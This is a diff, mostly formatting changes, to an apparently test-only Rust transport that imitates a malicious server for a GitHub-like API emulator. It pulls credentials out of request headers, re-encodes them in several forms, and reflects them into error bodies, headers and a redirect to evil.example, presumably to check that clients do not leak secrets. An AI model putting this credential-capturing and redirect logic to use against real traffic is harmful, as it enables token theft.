@@ -1,5 +1,5 @@
-//! A network that means harm: in front of the emulator, it answers what a broken or malicious server could answer,
-//! and says every credential it was sent back to whoever will print it.
+//! A network that means harm: in front of the emulator, it answers what a broken or malicious
+//! server could answer, and says every credential it was sent back to whoever will print it.
 
 use std::sync::Arc;
 use std::sync::atomic::{AtomicUsize, Ordering};
@@ -108,18 +108,30 @@ impl Hostile {
     }
 }
 
-/// Every credential of a request, as a server sees it, in each form in turn: what is shown of a message is short.
+/// Every credential of a request, as a server sees it, in each form in turn: what is shown of a
+/// message is short.
 fn credentials(request: &Request, turn: usize) -> String {
     let mut said = Vec::new();
     let known = ["content-type", "accept", "user-agent", "x-github-api-version"];
     for (_, value) in request.headers.iter().filter(|(name, _)| !known.contains(&name.as_str())) {
         let text = String::from_utf8_lossy(value.as_bytes()).into_owned();
         for word in text.split(' ').filter(|word| word.len() > 12) {
-            let opened = STANDARD.decode(word).ok().and_then(|bytes| String::from_utf8(bytes).ok()).unwrap_or_default();
+            let opened = STANDARD
+                .decode(word)
+                .ok()
+                .and_then(|bytes| String::from_utf8(bytes).ok())
+                .unwrap_or_default();
             let hex = word.bytes().map(|byte| format!("{byte:02x}")).collect();
             let backwards = word.chars().rev().collect();
             let (first, second) = word.split_at(word.len() / 2);
-            said.extend([word.to_owned(), opened, STANDARD.encode(word), STANDARD.encode(format!("k{word}")), backwards, hex]);
+            said.extend([
+                word.to_owned(),
+                opened,
+                STANDARD.encode(word),
+                STANDARD.encode(format!("k{word}")),
+                backwards,
+                hex,
+            ]);
             said.extend([first.to_owned(), second.to_owned()]);
         }
     }
@@ -172,20 +184,37 @@ impl Transport for Hostile {
         Box::pin(async move {
             Ok(match harm {
                 Harm::Nothing => return self.inner.send(request).await,
-                Harm::Refuse => return Err(TransportError::NotSent { host, why: "connection refused".to_owned() }),
-                Harm::Silence => return Err(TransportError::NoAnswer { host, why: "nothing came".to_owned() }),
-                Harm::Echo(status) => answer(status, "application/json", error(&format!("bad credential {said}"))),
-                Harm::Page(status) => answer(status, "text/html", format!("<html><h1>Blocked</h1>{said}</html>")),
+                Harm::Refuse => {
+                    return Err(TransportError::NotSent {
+                        host,
+                        why: "connection refused".to_owned(),
+                    });
+                }
+                Harm::Silence => {
+                    return Err(TransportError::NoAnswer { host, why: "nothing came".to_owned() });
+                }
+                Harm::Echo(status) => {
+                    answer(status, "application/json", error(&format!("bad credential {said}")))
+                }
+                Harm::Page(status) => {
+                    answer(status, "text/html", format!("<html><h1>Blocked</h1>{said}</html>"))
+                }
                 Harm::Flatter => answer(200, "application/json", flattery(&said)),
                 Harm::Redirect => {
                     let mut answer = answer(302, "application/json", "{}".to_owned());
-                    let place = format!("https://evil.example/?{}", said.replace(|c: char| !c.is_ascii_graphic(), "_"));
+                    let place = format!(
+                        "https://evil.example/?{}",
+                        said.replace(|c: char| !c.is_ascii_graphic(), "_")
+                    );
                     answer.headers.insert("location", HeaderValue::from_str(&place).unwrap());
                     answer
                 }
                 Harm::Headers => {
                     let mut answer = answer(403, "application/json", error("no"));
-                    let value = HeaderValue::from_str(&said.replace(|c: char| !c.is_ascii_graphic() && c != ' ', "_")).unwrap();
+                    let value = HeaderValue::from_str(
+                        &said.replace(|c: char| !c.is_ascii_graphic() && c != ' ', "_"),
+                    )
+                    .unwrap();
                     for name in [
                         "x-accepted-github-permissions",
                         "x-github-request-id",
